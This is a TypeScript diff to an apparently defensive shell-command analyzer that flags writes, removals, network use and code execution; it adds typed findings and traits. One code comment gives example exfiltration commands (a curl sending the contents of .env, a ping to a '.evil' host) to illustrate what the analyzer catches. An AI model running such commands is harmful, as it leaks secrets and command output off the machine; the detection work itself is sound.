@@ -1,6 +1,7 @@
+import type { Effect, Trait } from './catalogue/effect.js';
+import { REGISTRY } from './catalogue/index.js';
 import type { CommandLine, CwdSet, Redirect, SimpleCommand } from './command-line.js';
 import { hostSlice } from './commands/hosts.js';
-import { COMMANDS } from './commands/index.js';
 import type {
   Analyzer,
   CommandContext,
@@ -43,6 +44,10 @@ export interface CommandReport {
   readonly removes: readonly Word[];
   /** Why it is not read-only (empty when it is). */
   readonly notReadOnly: readonly string[];
+  /** The same, typed: one finding per entry of `notReadOnly`, in the same order. */
+  readonly findings: readonly Finding[];
+  /** What its command's knowledge says about it beyond effects (an edit, not prefix-allowable, ...). */
+  readonly traits: readonly Trait[];
   /** Why it is destructive (empty when it is not). */
   readonly destructive: readonly string[];
   /** Why it may keep running after the call (`&`, setsid, tail -f); empty when it ends. */
@@ -60,6 +65,14 @@ export interface CommandReport {
   /** Offsets in the top-level source of the simple command this report comes from. */
   readonly start: number;
   readonly end: number;
+}
+
+/** Why a command is not read-only, as data: the policy matches on `effect`, and shows `why`. */
+export interface Finding {
+  readonly effect: Effect;
+  readonly why: string;
+  /** It comes from a redirection (`> f`), not from the program. */
+  readonly redirect: boolean;
 }
 
 export interface LineAnalysis {
@@ -84,15 +97,20 @@ const EXEMPT_DEVICES = new Set(['/dev/null', '/dev/stdout', '/dev/stderr', '/dev
  * uses a few. A Map, because a command name is a fresh slice of the line, which a
  * dictionary-mode object first looks up among the engine's interned strings.
  */
-const SPECS = new Map<string, { readonly analyze: Analyzer; readonly transparent: boolean }>();
+interface Known {
+  readonly analyze: Analyzer;
+  readonly transparent: boolean;
+  readonly traits: readonly Trait[];
+}
+const SPECS = new Map<string, Known>();
 
-function specOf(name: string): { readonly analyze: Analyzer; readonly transparent: boolean } | undefined {
+function specOf(name: string): Known | undefined {
   let entry = SPECS.get(name);
   if (entry === undefined) {
-    const spec = Object.hasOwn(COMMANDS, name) ? COMMANDS[name] : undefined;
+    const spec = REGISTRY.spec(name);
     // Unknown names are not remembered: a long-running process would keep every one it met.
     if (spec === undefined) return undefined;
-    entry = { analyze: spec.analyze, transparent: spec.transparent === true };
+    entry = { analyze: spec.analyze, transparent: spec.transparent === true, traits: spec.traits ?? NONE };
     SPECS.set(name, entry);
   }
   return entry;
@@ -229,6 +247,7 @@ class LineAnalyzer {
       return;
     }
     if (spec.transparent) r.transparent();
+    if (spec.traits.length > 0) r.traits(spec.traits);
     // Arguments a program adds at run time (xargs, a pager's file names) are one more word the
     // line does not show, so every command's own rules see them.
     const args = extraArgs ? [...argv.slice(1), APPENDED] : argv.slice(1);
@@ -293,7 +312,7 @@ class LineAnalyzer {
     if (isDynamic(code)) {
       r.unknownCode(`${via} runs code only known at run time ("${short(code.raw)}")`);
     } else if (!opts.shown) {
-      r.notReadOnly(`${via} runs shell code given in an argument ("${short(code.value)}")`);
+      r.notReadOnly(`${via} runs shell code given in an argument ("${short(code.value)}")`, 'runs-code');
     }
     if (this.depth >= MAX_NESTING) {
       this.tooDeep(via);
@@ -383,6 +402,8 @@ class ReportBuilder implements EffectSink {
   private writes: WriteTarget[] | undefined;
   private removes: Word[] | undefined;
   private notRO: string[] | undefined;
+  private found: Finding[] | undefined;
+  private traitList: Trait[] | undefined;
   private destructive: string[] | undefined;
   private envs: { name: string; value: Word }[] | undefined;
   private lingering: string[] | undefined;
@@ -419,6 +440,21 @@ class ReportBuilder implements EffectSink {
     this.linger(why);
   }
 
+  trait(t: Trait): void {
+    if (this.traitList?.includes(t)) return;
+    this.traitList = push(this.traitList, t);
+  }
+
+  traits(ts: readonly Trait[]): void {
+    for (let i = 0; i < ts.length; i++) this.trait(ts[i]!);
+  }
+
+  /** Why it is not read-only, as text and as a typed finding (always both). */
+  private finding(effect: Effect, why: string, redirect = false): void {
+    this.notRO = push(this.notRO, why);
+    this.found = push(this.found, { effect, why, redirect });
+  }
+
   /** Arguments the program adds at run time: one more word of the command, only known then. */
   appendsArguments(): void {
     this.argv = [...this.argv, APPENDED];
@@ -440,18 +476,18 @@ class ReportBuilder implements EffectSink {
 
   write(target: Word, how: WriteHow, why: string, viaRedirect = false): void {
     this.writes = push(this.writes, { target, how, viaRedirect });
-    this.notRO = push(this.notRO, why);
+    this.finding(how === 'append' ? 'appends' : 'writes', why, viaRedirect);
     if (how === 'overwrite' || how === 'modify') this.destructive = push(this.destructive, why);
   }
 
   remove(target: Word, why: string): void {
     this.removes = push(this.removes, target);
-    this.notRO = push(this.notRO, why);
+    this.finding('removes', why);
     this.destructive = push(this.destructive, why);
   }
 
   opaque(why: string): void {
-    this.notRO = push(this.notRO, why);
+    this.finding('runs-code', why);
     this.destructive = push(this.destructive, why);
   }
 
@@ -468,7 +504,7 @@ class ReportBuilder implements EffectSink {
 
   network(why: string, sends: boolean): void {
     this.usesNetwork = true;
-    this.notRO = push(this.notRO, why);
+    this.finding(sends ? 'sends-data' : 'network', why);
     if (sends) this.destructive = push(this.destructive, why);
     else if (this.argv.some((w) => w.expansions.includes('command'))) {
       // `curl "https://x/?d=$(cat .env)"`, `ping "$(whoami).evil"`: command output leaves the machine.
@@ -481,12 +517,12 @@ class ReportBuilder implements EffectSink {
   }
 
   change(why: string, destructive: boolean): void {
-    this.notRO = push(this.notRO, why);
+    this.finding('changes-system', why);
     if (destructive) this.destructive = push(this.destructive, why);
   }
 
-  notReadOnly(why: string): void {
-    this.notRO = push(this.notRO, why);
+  notReadOnly(why: string, effect: Effect = 'unmodelled'): void {
+    this.finding(effect, why);
   }
 
   linger(why: string): void {
@@ -513,6 +549,8 @@ class ReportBuilder implements EffectSink {
       writes: this.writes ?? NONE,
       removes: this.removes ?? NONE,
       notReadOnly: this.notRO ?? NONE,
+      findings: this.found ?? NONE,
+      traits: this.traitList ?? NONE,
       destructive: this.destructive ?? NONE,
       lingers: this.lingering ?? NONE,
       network: this.usesNetwork,
